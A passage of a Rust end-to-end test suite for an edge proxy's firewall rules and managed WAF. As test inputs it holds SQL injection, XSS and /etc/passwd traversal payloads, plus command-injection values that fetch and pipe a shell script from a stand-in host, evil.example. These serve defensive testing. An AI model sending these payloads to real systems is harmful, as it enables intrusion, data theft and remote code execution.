//! End-to-end tests of the protections through the real binary over real
//! sockets: custom rules (every action), the managed WAF (per category and per
//! request location, plus benign look-alikes), IP access rules (IP, CIDR, IPv6,
//! country), the Browser Integrity Check, the proof-of-work challenge round
//! trip, Basic auth, and the branding of edge 403s versus origin 403s.
//!
//! Every test checks both what the client got and whether the origin was
//! reached (`TestOrigin::requests`).

mod common;

use std::io::{BufReader, Write};
use std::net::SocketAddr;

use common::*;

/// A mainstream browser User-Agent (passes the Browser Integrity Check with an Accept header).
const BROWSER_UA: &str = "Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0";

const CHALLENGE_SECTION: &str = "\n[challenge]\nsecret = \"0123456789abcdef0123\"\ndifficulty = 8\n";

// ------------------------------------------------------------------ helpers --

/// A request with Host example.com, `Connection: close` and `headers` (each line ending CRLF).
fn request(method: &str, target: &str, headers: &str, body: &str) -> Vec<u8> {
    let length = if body.is_empty() && method != "POST" {
        String::new()
    } else {
        format!("Content-Length: {}\r\n", body.len())
    };
    format!(
        "{method} {target} HTTP/1.1\r\nHost: example.com\r\n{headers}{length}Connection: close\r\n\r\n{body}"
    )
    .into_bytes()
}

/// The headers a browser sends (User-Agent and Accept HTML).
fn browser() -> String {
    format!("User-Agent: {BROWSER_UA}\r\nAccept: text/html,application/xhtml+xml,*/*;q=0.8\r\n")
}

/// A browser GET of `target`.
fn get(addr: SocketAddr, target: &str) -> Response {
    exchange(addr, &request("GET", target, &browser(), ""))
}

/// A browser GET of `target` with extra header lines.
fn get_with(addr: SocketAddr, target: &str, extra: &str) -> Response {
    exchange(
        addr,
        &request("GET", target, &format!("{}{extra}", browser()), ""),
    )
}

/// Asserts the response is the edge's branded HTML page for `status` naming `rule_id`,
/// the client IP and the request id ("Ray ID").
#[track_caller]
fn assert_branded(resp: &Response, status: u16, rule_id: &str) {
    assert_eq!(resp.status, status, "status; body:\n{}", resp.text());
    assert_eq!(
        resp.header("server"),
        Some("edgeward"),
        "edge responses carry Server: edgeward"
    );
    assert_eq!(resp.header("cache-control"), Some("no-store"));
    assert!(
        resp.header("content-type")
            .is_some_and(|t| t.starts_with("text/html")),
        "content type {:?}",
        resp.header("content-type")
    );
    assert_eq!(
        resp.header("content-length")
            .and_then(|v| v.parse::<usize>().ok()),
        Some(resp.body.len())
    );
    let body = resp.text();
    let ray = resp.header("x-request-id").expect("request id header");
    assert!(!ray.is_empty());
    assert!(body.contains("Ray ID"), "no Ray ID label:\n{body}");
    assert!(body.contains(ray), "body lacks the request id {ray}:\n{body}");
    assert!(body.contains("127.0.0.1"), "body lacks the client IP:\n{body}");
    assert!(
        body.contains(rule_id),
        "body lacks the rule id {rule_id}:\n{body}"
    );
    assert!(body.contains("edgeward"), "body is not branded:\n{body}");
}

/// Asserts the response was passed through from the origin (its body "ok").
#[track_caller]
fn assert_from_origin(resp: &Response) {
    assert_eq!(
        resp.status,
        200,
        "expected the origin's 200; body:\n{}",
        resp.text()
    );
    assert_eq!(resp.text(), "ok");
}

/// Asserts a WAF block page naming a rule with `prefix` (e.g. `waf-sqli-1`); returns the rule id.
#[track_caller]
fn assert_waf_block(resp: &Response, prefix: &str) -> String {
    assert_eq!(resp.status, 403, "expected a WAF block; body:\n{}", resp.text());
    assert_eq!(resp.header("server"), Some("edgeward"));
    let body = resp.text();
    let start = body
        .find("waf-")
        .unwrap_or_else(|| panic!("no waf rule id in:\n{body}"));
    let id: String = body[start..]
        .chars()
        .take_while(|c| c.is_ascii_alphanumeric() || *c == '-')
        .collect();
    assert!(id.starts_with(prefix), "rule {id} is not {prefix}*");
    assert_branded(resp, 403, &id);
    id
}

fn origin() -> TestOrigin {
    TestOrigin::fixed("200 OK", "Content-Type: text/plain\r\n", "ok")
}

/// How many requests the origin saw whose request line contains `needle`.
fn origin_saw(origin: &TestOrigin, needle: &str) -> usize {
    origin
        .requests()
        .iter()
        .filter(|r| r.request_line().contains(needle))
        .count()
}

fn form_encode(s: &str) -> String {
    let mut out = String::new();
    for b in s.bytes() {
        if b.is_ascii_alphanumeric() || matches!(b, b'-' | b'_' | b'.' | b'~') {
            out.push(b as char);
        } else {
            out.push_str(&format!("%{b:02X}"));
        }
    }
    out
}

fn basic(user: &str, pass: &str) -> String {
    // A tiny base64 encoder (standard alphabet, padded): no dependency needed.
    const ALPHABET: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let input = format!("{user}:{pass}").into_bytes();
    let mut out = String::new();
    for chunk in input.chunks(3) {
        let b = [chunk[0], *chunk.get(1).unwrap_or(&0), *chunk.get(2).unwrap_or(&0)];
        let n = (u32::from(b[0]) << 16) | (u32::from(b[1]) << 8) | u32::from(b[2]);
        for i in 0..4 {
            if i <= chunk.len() {
                out.push(ALPHABET[(n >> (18 - 6 * i) & 63) as usize] as char);
            } else {
                out.push('=');
            }
        }
    }
    format!("Authorization: Basic {out}\r\n")
}

// ------------------------------------------------------------ custom rules --

#[test]
fn block_rule_renders_the_branded_page_in_html_and_json() {
    let origin = origin();
    let edge = Edgeward::start(&config(
        origin.addr,
        "[[zones.rules]]\nid = \"block-admin\"\nexpression = 'http.request.uri.path eq \"/admin\"'\naction = \"block\"\n",
    ));

    let resp = get(edge.addr, "/admin");
    assert_branded(&resp, 403, "block-admin");
    assert_eq!(
        origin_saw(&origin, "/admin"),
        0,
        "a blocked request must not reach the origin"
    );

    let resp = exchange(
        edge.addr,
        &request(
            "GET",
            "/admin",
            &format!("User-Agent: {BROWSER_UA}\r\nAccept: application/json\r\n"),
            "",
        ),
    );
    assert_eq!(resp.status, 403);
    assert_eq!(resp.header("server"), Some("edgeward"));
    assert!(resp.header("content-type").unwrap().contains("json"));
    let doc: serde_json::Value = serde_json::from_slice(&resp.body).expect("JSON body");
    assert_eq!(doc["rule_id"], "block-admin");
    assert_eq!(doc["status"], 403);
    assert_eq!(
        doc["error_code"], 1020,
        "Cloudflare's code for a firewall rule: {doc}"
    );
    assert_eq!(doc["ray_id"].as_str(), resp.header("x-request-id"));
    assert_eq!(doc["client_ip"], "127.0.0.1");

    // HEAD: same status and headers, no body.
    let resp = exchange(edge.addr, &request("HEAD", "/admin", &browser(), ""));
    assert_eq!(resp.status, 403);
    assert_eq!(resp.header("server"), Some("edgeward"));
    assert!(resp.header("content-length").is_some_and(|l| l != "0"));

    // Paths the rule does not match go to the origin.
    assert_from_origin(&get(edge.addr, "/admin/x"));
    assert_from_origin(&get(edge.addr, "/"));
    assert_eq!(origin_saw(&origin, "/admin"), 1);
    assert_eq!(origin_saw(&origin, "/admin "), 0);
}

#[test]
fn legal_block_gives_451_with_blocked_by_link_and_explanation() {
    let origin = origin();
    let edge = Edgeward::start(&config(
        origin.addr,
        "[[zones.rules]]\nid = \"legal-1\"\nexpression = 'starts_with(http.request.uri.path, \"/banned\")'\n\
         action = \"legal_block\"\nblocked_by = \"https://authority.example/order/42\"\n\
         explanation = \"A court order requires this content to be withheld.\"\n",
    ));
    let resp = get(edge.addr, "/banned/film");
    assert_eq!(resp.status, 451, "{}", resp.text());
    assert_eq!(resp.header("server"), Some("edgeward"));
    assert_eq!(
        resp.header("link"),
        Some("<https://authority.example/order/42>; rel=\"blocked-by\"")
    );
    let body = resp.text();
    assert!(
        body.contains("A court order requires this content to be withheld."),
        "{body}"
    );
    assert!(body.contains("https://authority.example/order/42"), "{body}");
    assert!(body.contains(resp.header("x-request-id").unwrap()));
    assert_eq!(origin.requests().len(), 0);
    assert_from_origin(&get(edge.addr, "/film"));
}

#[test]
fn gone_rule_gives_410() {
    let origin = origin();
    let edge = Edgeward::start(&config(
        origin.addr,
        "[[zones.rules]]\nid = \"old-blog\"\nexpression = 'starts_with(http.request.uri.path, \"/blog/2009/\")'\naction = \"gone\"\n",
    ));
    let resp = get(edge.addr, "/blog/2009/hello");
    assert_eq!(resp.status, 410, "{}", resp.text());
    assert_eq!(resp.header("server"), Some("edgeward"));
    assert!(resp.text().contains("permanently"), "{}", resp.text());
    assert!(resp.header("x-request-id").is_some());
    assert_eq!(origin.requests().len(), 0);
    assert_from_origin(&get(edge.addr, "/blog/2010/hello"));
}

#[test]
fn payment_required_gives_402_with_configured_headers() {
    let origin = origin();
    let edge = Edgeward::start(&config(
        origin.addr,
        "[[zones.rules]]\nid = \"pay-per-crawl\"\nexpression = 'lower(http.user_agent) contains \"gptbot\"'\n\
         action = \"payment_required\"\nheaders = { \"Crawler-Price\" = \"USD 0.01\" }\n\
         message = \"Crawling this site costs one cent per page.\"\n",
    ));
    let resp = exchange(
        edge.addr,
        &request(
            "GET",
            "/article",
            "User-Agent: Mozilla/5.0 (compatible; GPTBot/1.2)\r\nAccept: */*\r\n",
            "",
        ),
    );
    assert_eq!(resp.status, 402, "{}", resp.text());
    assert_eq!(resp.header("server"), Some("edgeward"));
    assert_eq!(resp.header("crawler-price"), Some("USD 0.01"));
    assert!(
        resp.text()
            .contains("Crawling this site costs one cent per page."),
        "{}",
        resp.text()
    );
    assert_eq!(origin.requests().len(), 0);
    // A browser is not charged.
    assert_from_origin(&get(edge.addr, "/article"));
    assert_eq!(origin_saw(&origin, "/article"), 1);
}

#[test]
fn methods_rule_gives_405_with_allow() {
    let origin = origin();
    let edge = Edgeward::start(&config(
        origin.addr,
        "[[zones.rules]]\nid = \"read-only\"\nexpression = 'starts_with(http.request.uri.path, \"/static/\")'\n\
         action = \"methods\"\nmethods = [\"GET\", \"HEAD\"]\n",
    ));
    let resp = exchange(edge.addr, &request("DELETE", "/static/app.js", &browser(), ""));
    assert_eq!(resp.status, 405, "{}", resp.text());
    assert_eq!(resp.header("server"), Some("edgeward"));
    assert_eq!(resp.header("allow"), Some("GET, HEAD"));
    let resp = exchange(
        edge.addr,
        &request(
            "POST",
            "/static/app.js",
            &format!("{}Content-Type: text/plain\r\n", browser()),
            "x",
        ),
    );
    assert_eq!(resp.status, 405);
    assert_eq!(resp.header("allow"), Some("GET, HEAD"));
    assert_eq!(origin.requests().len(), 0);
    // An allowed method goes through.
    assert_from_origin(&get(edge.addr, "/static/app.js"));
    assert_eq!(origin_saw(&origin, "GET /static/app.js"), 1);
}

#[test]
fn content_types_rule_gives_415_with_accept_post() {
    let origin = origin();
    let edge = Edgeward::start(&config(
        origin.addr,
        "[[zones.rules]]\nid = \"json-only\"\nexpression = 'starts_with(http.request.uri.path, \"/api/\")'\n\
         action = \"content_types\"\ncontent_types = [\"application/json\"]\n",
    ));
    let resp = exchange(
        edge.addr,
        &request(
            "POST",
            "/api/items",
            &format!("{}Content-Type: text/plain\r\n", browser()),
            "hello",
        ),
    );
    assert_eq!(resp.status, 415, "{}", resp.text());
    assert_eq!(resp.header("server"), Some("edgeward"));
    assert_eq!(resp.header("accept-post"), Some("application/json"));
    assert_eq!(origin.requests().len(), 0);
    // The accepted type (parameters ignored) goes through, body intact.
    let resp = exchange(
        edge.addr,
        &request(
            "POST",
            "/api/items",
            &format!("{}Content-Type: Application/JSON; charset=utf-8\r\n", browser()),
            "{\"a\":1}",
        ),
    );
    assert_from_origin(&resp);
    let seen = origin.requests();
    assert_eq!(seen.len(), 1);
    assert_eq!(seen[0].body, b"{\"a\":1}");
    // No body, no content type: nothing to refuse.
    assert_from_origin(&get(edge.addr, "/api/items"));
}

#[test]
fn log_rule_lets_the_request_through_and_logs_it() {
    let origin = origin();
    let edge = Edgeward::start(&config(
        origin.addr,
        "[[zones.rules]]\nid = \"watch-search\"\nexpression = 'http.request.uri.path eq \"/search\"'\naction = \"log\"\n",
    ));
    let resp = get(edge.addr, "/search?q=x");
    assert_from_origin(&resp);
    assert_eq!(origin_saw(&origin, "/search?q=x"), 1);
    let logs = edge.wait_for_log("rule matched (log)");
    assert!(logs.contains("watch-search"), "{logs}");
}

#[test]
fn skip_waf_rule_lets_an_attack_through_only_where_it_matches() {
    let origin = origin();
    let edge = Edgeward::start(&config(
        origin.addr,
        "[[zones.rules]]\nid = \"trusted-import\"\nexpression = 'http.request.uri.path eq \"/import\"'\n\
         action = \"skip\"\nphases = [\"waf\"]\n",
    ));
    let attack = "?q=1%27%20UNION%20SELECT%20password%20FROM%20users--";
    assert_from_origin(&get(edge.addr, &format!("/import{attack}")));
    assert_eq!(origin_saw(&origin, "/import?"), 1);
    assert_waf_block(&get(edge.addr, &format!("/other{attack}")), "waf-sqli-");
    assert_eq!(origin_saw(&origin, "/other"), 0);
}

#[test]
fn skip_custom_rules_stops_later_rules() {
    let origin = origin();
    let edge = Edgeward::start(&config(
        origin.addr,
        "[[zones.rules]]\nid = \"skip-health\"\nexpression = 'http.request.uri.path eq \"/health\"'\n\
         action = \"skip\"\nphases = [\"custom_rules\"]\n\
         [[zones.rules]]\nid = \"block-all\"\nexpression = 'http.request.uri.path ne \"\"'\naction = \"block\"\n",
    ));
    assert_from_origin(&get(edge.addr, "/health"));
    assert_branded(&get(edge.addr, "/page"), 403, "block-all");
    assert_eq!(origin.requests().len(), 1);
}

#[test]
fn allow_rule_skips_later_rules_and_the_waf() {
    let origin = origin();
    let edge = Edgeward::start(&config(
        origin.addr,
        "browser_check = true\n\
         [[zones.rules]]\nid = \"allow-partner\"\nexpression = 'http.request.headers[\"x-partner-key\"] eq \"k-123\"'\naction = \"allow\"\n\
         [[zones.rules]]\nid = \"block-reports\"\nexpression = 'starts_with(http.request.uri.path, \"/reports\")'\naction = \"block\"\n",
    ));
    let attack = "/reports?id=1%27%20OR%20%271%27%3D%271";
    // Without the key: the block rule decides first.
    assert_branded(&get(edge.addr, attack), 403, "block-reports");
    // With the key: later rules, the WAF and the browser check (no User-Agent) are skipped.
    let resp = exchange(edge.addr, &request("GET", attack, "X-Partner-Key: k-123\r\n", ""));
    assert_from_origin(&resp);
    assert_eq!(origin.requests().len(), 1);
    // A wrong key is not enough.
    let resp = get_with(edge.addr, "/reports", "X-Partner-Key: k-124\r\n");
    assert_branded(&resp, 403, "block-reports");
    assert_eq!(origin.requests().len(), 1);
}

#[test]
fn rules_read_every_field() {
    let origin = origin();
    let rules = [
        ("r-method", r#"http.request.method eq "PUT""#),
        ("r-query", r#"http.request.uri.query contains "debug=1""#),
        ("r-cookie", r#"http.cookie contains "role=intruder""#),
        ("r-referer", r#"ends_with(http.referer, "spam.example/")"#),
        ("r-host", r#"http.host eq "blocked.example.com""#),
        ("r-ua-len", r#"len(http.user_agent) gt 300"#),
        (
            "r-regex",
            r#"http.request.uri.path matches "^/v[0-9]+/internal/""#,
        ),
        ("r-set", r#"http.request.uri.path in {"/a1" "/a2"}"#),
        (
            "r-not",
            r#"not (upper(http.request.headers["x-env"]) eq "PROD") and http.request.uri.path eq "/deploy""#,
        ),
        ("r-ssl", r#"ssl and http.request.uri.path eq "/tls-only""#),
        (
            "r-ipset",
            r#"ip.src in {10.0.0.0/8 127.0.0.0/8} and http.request.uri.path eq "/ipset""#,
        ),
        (
            "r-ipnot",
            r#"not ip.src in {10.0.0.0/8 192.168.0.0/16} and http.request.uri.path eq "/ipnot""#,
        ),
        (
            "r-ipother",
            r#"ip.src in {203.0.113.0/24 2001:db8::/32} and http.request.uri.path eq "/ipother""#,
        ),
    ];
    let mut extra = String::new();
    for (id, expr) in rules {
        extra.push_str(&format!(
            "[[zones.rules]]\nid = \"{id}\"\nexpression = '{expr}'\naction = \"block\"\n"
        ));
    }
    let edge = Edgeward::start(&config(origin.addr, &extra));
    let ua = browser();
    let cases: Vec<(Vec<u8>, Option<&str>)> = vec![
        (request("PUT", "/x", &ua, "1"), Some("r-method")),
        (request("GET", "/x?a=2&debug=1", &ua, ""), Some("r-query")),
        (
            request("GET", "/x", &format!("{ua}Cookie: a=1; role=intruder\r\n"), ""),
            Some("r-cookie"),
        ),
        (
            request("GET", "/x", &format!("{ua}Referer: http://spam.example/\r\n"), ""),
            Some("r-referer"),
        ),
        (
            format!("GET /x HTTP/1.1\r\nHost: blocked.example.com\r\n{ua}Connection: close\r\n\r\n")
                .into_bytes(),
            Some("r-host"),
        ),
        (
            request("GET", "/x", &format!("User-Agent: {}\r\n", "a".repeat(301)), ""),
            Some("r-ua-len"),
        ),
        (request("GET", "/v2/internal/keys", &ua, ""), Some("r-regex")),
        (request("GET", "/a2", &ua, ""), Some("r-set")),
        (
            request("GET", "/deploy", &format!("{ua}X-Env: staging\r\n"), ""),
            Some("r-not"),
        ),
        (request("GET", "/ipset", &ua, ""), Some("r-ipset")),
        (request("GET", "/ipnot", &ua, ""), Some("r-ipnot")),
        (request("GET", "/ipother", &ua, ""), None),
        // Non-matching look-alikes.
        (request("GET", "/x?debug=0", &ua, ""), None),
        (
            request("GET", "/x", &format!("{ua}Cookie: role=admin\r\n"), ""),
            None,
        ),
        (request("GET", "/v2/public/keys", &ua, ""), None),
        (request("GET", "/a3", &ua, ""), None),
        (
            request("GET", "/deploy", &format!("{ua}X-Env: prod\r\n"), ""),
            None,
        ),
        (request("GET", "/tls-only", &ua, ""), None), // plain HTTP: ssl is false
        (
            format!("GET /x HTTP/1.1\r\nHost: www.example.com\r\n{ua}Connection: close\r\n\r\n").into_bytes(),
            None,
        ),
    ];
    let mut passed = 0;
    for (raw, expected) in cases {
        let resp = exchange(edge.addr, &raw);
        let line = String::from_utf8_lossy(&raw).lines().next().unwrap().to_owned();
        match expected {
            Some(id) => {
                assert_eq!(resp.status, 403, "{line}: {}", resp.text());
                assert!(
                    resp.text().contains(id),
                    "{line}: expected rule {id}: {}",
                    resp.text()
                );
            }
            None => {
                assert_eq!(resp.status, 200, "{line}: {}", resp.text());
                passed += 1;
            }
        }
    }
    assert_eq!(origin.requests().len(), passed);
}

#[test]
fn challenge_rule_serves_the_interstitial() {
    let origin = origin();
    let edge = Edgeward::start(&format!(
        "{}{CHALLENGE_SECTION}",
        config(
            origin.addr,
            "[[zones.rules]]\nid = \"challenge-login\"\nexpression = 'http.request.uri.path eq \"/login\"'\naction = \"challenge\"\n",
        )
    ));
    let resp = get(edge.addr, "/login");
    assert_eq!(resp.status, 403);
    assert_eq!(resp.header("server"), Some("edgeward"));
    assert!(resp.header("content-type").unwrap().starts_with("text/html"));
    let nonce = resp.header("x-edgeward-challenge").expect("nonce header");
    assert!(resp.text().contains(nonce), "the page embeds the nonce");
    assert!(
        resp.text().contains("/.edgeward/challenge"),
        "the page posts to the challenge endpoint"
    );
    assert_eq!(resp.header("cache-control"), Some("no-store"));
    assert_eq!(origin.requests().len(), 0);
    assert_from_origin(&get(edge.addr, "/"));
}

// ---------------------------------------------------------------------- WAF --

#[test]
fn waf_blocks_each_category_in_each_location() {
    let origin = origin();
    let edge = Edgeward::start(&config(origin.addr, ""));
    let ua = browser();
    let form = "Content-Type: application/x-www-form-urlencoded\r\n";
    let json = "Content-Type: application/json\r\n";
    let cases: Vec<(&str, Vec<u8>, &str)> = vec![
        // SQL injection
        (
            "sqli query",
            request("GET", "/p?id=1%27%20OR%20%271%27%3D%271", &ua, ""),
            "waf-sqli-1",
        ),
        (
            "sqli union query",
            request(
                "GET",
                "/p?id=1+UNION+SELECT+username,password+FROM+users--",
                &ua,
                "",
            ),
            "waf-sqli-1",
        ),
        (
            "sqli path",
            request(
                "GET",
                "/item/1%27%20UNION%20SELECT%20password%20FROM%20users--",
                &ua,
                "",
            ),
            "waf-sqli-1",
        ),
        (
            "sqli header",
            request(
                "GET",
                "/p",
                &format!("{ua}X-Search: 1' UNION SELECT password FROM users--\r\n"),
                "",
            ),
            "waf-sqli-1",
        ),
        (
            "sqli cookie",
            request(
                "GET",
                "/p",
                &format!("{ua}Cookie: theme=dark; id=1%27%20OR%201%3D1--\r\n"),
                "",
            ),
            "waf-sqli-1",
        ),
        (
            "sqli form body",
            request(
                "POST",
                "/login",
                &format!("{ua}{form}"),
                "user=admin&pass=x%27+OR+%271%27%3D%271",
            ),
            "waf-sqli-1",
        ),
        (
            "sqli json body",
            request(
                "POST",
                "/api",
                &format!("{ua}{json}"),
                r#"{"id":"1' UNION SELECT password FROM users--"}"#,
            ),
            "waf-sqli-1",
        ),
        // XSS
        (
            "xss query",
            request("GET", "/s?q=%3Cscript%3Ealert(1)%3C/script%3E", &ua, ""),
            "waf-xss-2",
        ),
        (
            "xss path",
            request("GET", "/s/%3Cscript%3Ealert(1)%3C%2Fscript%3E", &ua, ""),
            "waf-xss-2",
        ),
        (
            "xss header",
            request(
                "GET",
                "/s",
                &format!("{ua}X-Name: <img src=x onerror=alert(1)>\r\n"),
                "",
            ),
            "waf-xss-2",
        ),
        (
            "xss cookie",
            request(
                "GET",
                "/s",
                &format!("{ua}Cookie: sid=abc; pref=%3Cscript%3Ealert(1)%3C/script%3E\r\n"),
                "",
            ),
            "waf-xss-2",
        ),
        (
            "xss referer",
            request(
                "GET",
                "/s",
                &format!("{ua}Referer: https://example.com/?q=%3Cscript%3Ealert(1)%3C/script%3E\r\n"),
                "",
            ),
            "waf-xss-2",
        ),
        (
            "xss form body",
            request(
                "POST",
                "/comment",
                &format!("{ua}{form}"),
                "text=%3Csvg+onload%3Dalert(1)%3E",
            ),
            "waf-xss-2",
        ),
        (
            "xss json body",
            request(
                "POST",
                "/api",
                &format!("{ua}{json}"),
                r#"{"user":{"bio":"<svg onload=alert(1)>"}}"#,
            ),
            "waf-xss-2",
        ),
        // Path traversal
        (
            "trav query",
            request("GET", "/dl?file=..%2F..%2F..%2Fetc%2Fpasswd", &ua, ""),
            "waf-trav-3",
        ),
        (
            "trav path",
            request("GET", "/static/%2e%2e/%2e%2e/%2e%2e/etc/passwd", &ua, ""),
            "waf-trav-3",
        ),
        (
            "trav header",
            request("GET", "/dl", &format!("{ua}X-File: ../../../etc/passwd\r\n"), ""),
            "waf-trav-3",
        ),
        (
            "trav cookie",
            request(
                "GET",
                "/dl",
                &format!("{ua}Cookie: tpl=..%2F..%2F..%2Fetc%2Fpasswd\r\n"),
                "",
            ),
            "waf-trav-3",
        ),
        (
            "trav form body",
            request(
                "POST",
                "/dl",
                &format!("{ua}{form}"),
                "file=..%2F..%2F..%2Fetc%2Fpasswd",
            ),
            "waf-trav-3",
        ),
        (
            "trav json body",
            request(
                "POST",
                "/dl",
                &format!("{ua}{json}"),
                r#"{"file":"../../../etc/passwd"}"#,
            ),
            "waf-trav-3",
        ),
        (
            "trav double-encoded",
            request(
                "GET",
                "/dl?f=%252e%252e%252f%252e%252e%252fetc%252fpasswd",
                &ua,
                "",
            ),
            "waf-trav-3",
        ),
        // Command injection
        (
            "cmdi query",
            request(
                "GET",
                "/ping?host=127.0.0.1%3Bwget%20http%3A%2F%2Fevil.example%2Fx.sh",
                &ua,
                "",
            ),
            "waf-cmdi-4",
        ),
        (
            "cmdi header",
            request(
                "GET",
                "/ping",
                &format!("{ua}X-Host: 8.8.8.8; wget http://evil.example/x.sh\r\n"),
                "",
            ),
            "waf-cmdi-4",
        ),
        (
            "cmdi cookie",
            request(
                "GET",
                "/ping",
                &format!("{ua}Cookie: host=%24(wget%20http%3A%2F%2Fevil.example%2Fx.sh)\r\n"),
                "",
            ),
            "waf-cmdi-4",
        ),
        (
            "cmdi form body",
            request(
                "POST",
                "/ping",
                &format!("{ua}{form}"),
                "host=8.8.8.8%7C%7Cwget+http%3A%2F%2Fevil.example%2Fsh",
            ),
            "waf-cmdi-4",
        ),
        (
            "cmdi json body",
            request(
                "POST",
                "/ping",
                &format!("{ua}{json}"),
                r#"{"host":"8.8.8.8 && curl http://evil.example/x.sh | sh"}"#,
            ),
            "waf-cmdi-4",
        ),
        // Scanners
        (
            "scanner ua",
            request(
                "GET",
                "/",
                "User-Agent: sqlmap/1.7.2#stable (https://sqlmap.org)\r\nAccept: */*\r\n",
                "",
            ),
            "waf-scan-50",
        ),
        (
            "scanner ua nikto",
            request(
                "GET",
                "/",
                "User-Agent: Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000001)\r\nAccept: */*\r\n",
                "",
            ),
            "waf-scan-50",
        ),
        // Evasion: double-encoded angle bracket
        (
            "double-encoded markup",
            request("GET", "/s?f=%253Cb%253E", &ua, ""),
            "waf-enc-600",
        ),
    ];
    let mut failures = Vec::new();
    for (name, raw, prefix) in &cases {
        let resp = exchange(edge.addr, raw);
        let body = resp.text();
        let ok = resp.status == 403
            && resp.header("server") == Some("edgeward")
            && body.contains(prefix)
            && body.contains(resp.header("x-request-id").unwrap_or("?"));
        if !ok {
            let rule = body
                .find("Rule ID</dt><dd>")
                .map(|i| body[i + 16..].split('<').next().unwrap_or("").to_owned());
            failures.push(format!("{name}: got {} rule {rule:?}", resp.status));
        }
    }
    assert!(failures.is_empty(), "WAF misses:\n{}", failures.join("\n"));
    assert_eq!(
        origin.requests().len(),
        0,
        "no attack may reach the origin: {:?}",
        origin.requests()
    );
    // The block pages are full branded pages.
    assert_waf_block(&get(edge.addr, "/p?id=1%27%20OR%20%271%27%3D%271"), "waf-sqli-1");
    let logs = edge.wait_for_log("managed rule blocked the request");
    assert!(logs.contains("waf-sqli-1"), "{logs}");
}

#[test]
fn waf_lets_benign_look_alikes_through() {
    let origin = origin();
    let edge = Edgeward::start(&config(origin.addr, ""));
    let ua = browser();
    let form = "Content-Type: application/x-www-form-urlencoded\r\n";
    let json = "Content-Type: application/json\r\n";
    let cases: Vec<(&str, Vec<u8>)> = vec![
        ("apostrophe name", request("GET", "/search?q=O%27Reilly", &ua, "")),
        ("apostrophe plus", request("GET", "/search?q=O'Reilly+books&page=2", &ua, "")),
        ("ampersand", request("GET", "/search?q=rock+%26+roll", &ua, "")),
        ("select word", request("GET", "/search?q=select+a+union+rep", &ua, "")),
        ("dashes", request("GET", "/search?q=well-known+--+ish", &ua, "")),
        ("dotted file", request("GET", "/files/report.v2.final.pdf", &ua, "")),
        ("nested url", request("GET", "/go?next=%2Fsearch%3Fq%3DO%2527Reilly", &ua, "")),
        ("math", request("GET", "/calc?expr=1%2B1%3D2", &ua, "")),
        ("semicolon", request("GET", "/p?style=color%3Ared%3B+font-weight%3Abold", &ua, "")),
        ("email", request("GET", "/u?email=alice%40example.com", &ua, "")),
        ("cookie", request("GET", "/", &format!("{ua}Cookie: _ga=GA1.2.1234.5678; theme=dark; lang=en-GB\r\n"), "")),
        ("referer", request("GET", "/", &format!("{ua}Referer: https://example.com/search?q=O%27Reilly+books\r\n"), "")),
        ("form", request("POST", "/comment", &format!("{ua}{form}"), "name=Tom+O%27Brien&text=I+love+rock+%26+roll%21")),
        ("json", request("POST", "/api", &format!("{ua}{json}"), r#"{"name":"D'Angelo","bio":"Likes C# & F#; uses <3 often","tags":["a","b"]}"#)),
        ("curl", request("GET", "/", "User-Agent: curl/8.5.0\r\nAccept: */*\r\n", "")),
        ("python", request("GET", "/", "User-Agent: python-requests/2.31.0\r\nAccept: */*\r\n", "")),
        ("googlebot", request("GET", "/", "User-Agent: Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)\r\nAccept: */*\r\n", "")),
        ("plain body", request("POST", "/upload", &format!("{ua}Content-Type: text/plain\r\n"), "Dear team, O'Reilly's order (#42) ships on 1-2 May; thanks!")),
    ];
    let mut failures = Vec::new();
    for (name, raw) in &cases {
        let resp = exchange(edge.addr, raw);
        if resp.status != 200 || resp.text() != "ok" {
            failures.push(format!(
                "{name}: got {} {}",
                resp.status,
                resp.text().chars().take(300).collect::<String>()
            ));
        }
    }
    assert!(failures.is_empty(), "false positives:\n{}", failures.join("\n"));
    assert_eq!(origin.requests().len(), cases.len());
    // The form body reaches the origin byte for byte.
    let seen = origin.requests();
    assert!(seen
        .iter()
        .any(|r| r.body == b"name=Tom+O%27Brien&text=I+love+rock+%26+roll%21"));
}

#[test]
fn waf_can_be_disabled_and_tuned() {
    let origin = origin();
    let off = Edgeward::start(&config(origin.addr, "[zones.waf]\nenabled = false\n"));
    assert_from_origin(&get(off.addr, "/p?id=1%27%20OR%20%271%27%3D%271"));
    assert_eq!(origin_saw(&origin, "/p?id="), 1);

    // Low sensitivity: unambiguous attacks still blocked, weak signals (double-encoded markup) not.
    let low = Edgeward::start(&config(origin.addr, "[zones.waf]\nsensitivity = \"low\"\n"));
    assert_waf_block(
        &get(low.addr, "/s?q=%3Cscript%3Ealert(1)%3C/script%3E"),
        "waf-xss-2",
    );
    assert_from_origin(&get(low.addr, "/s?f=%253Cb%253E"));
    assert_eq!(origin_saw(&origin, "/s?"), 1);
}

#[test]
fn waf_body_limit_bounds_inspection() {
    let origin = origin();
    let edge = Edgeward::start(&config(origin.addr, "[zones.waf]\nbody_limit = 16\n"));
    let ua = browser();
    let form = "Content-Type: application/x-www-form-urlencoded\r\n";
    // The attack lies beyond the first 16 bytes: not inspected, forwarded intact.
    let body = format!("pad={}&q=%3Cscript%3Ealert(1)%3C/script%3E", "a".repeat(40));
    assert_from_origin(&exchange(
        edge.addr,
        &request("POST", "/c", &format!("{ua}{form}"), &body),
    ));
    assert_eq!(
        origin.requests()[0].body,
        body.as_bytes(),
        "the prefetched body is forwarded whole"
    );
    // Within the limit: blocked.
    let resp = exchange(
        edge.addr,
        &request("POST", "/c", &format!("{ua}{form}"), "q=<script>x</script>"),
    );
    assert_waf_block(&resp, "waf-xss-2");
    assert_eq!(origin.requests().len(), 1);
}

#[test]
fn waf_inspects_a_chunked_json_body_and_forwards_it_intact() {
    let origin = origin();
    let edge = Edgeward::start(&config(origin.addr, ""));
    let chunked = |json: &str| {
        format!(
            "POST /api HTTP/1.1\r\nHost: example.com\r\n{}Content-Type: application/json\r\n\
             Transfer-Encoding: chunked\r\nConnection: close\r\n\r\n{:x}\r\n{json}\r\n0\r\n\r\n",
            browser(),
            json.len()
        )
        .into_bytes()
    };
    let resp = exchange(edge.addr, &chunked(r#"{"q":"<script>alert(1)</script>"}"#));
    assert_waf_block(&resp, "waf-xss-2");
    assert_eq!(origin.requests().len(), 0);
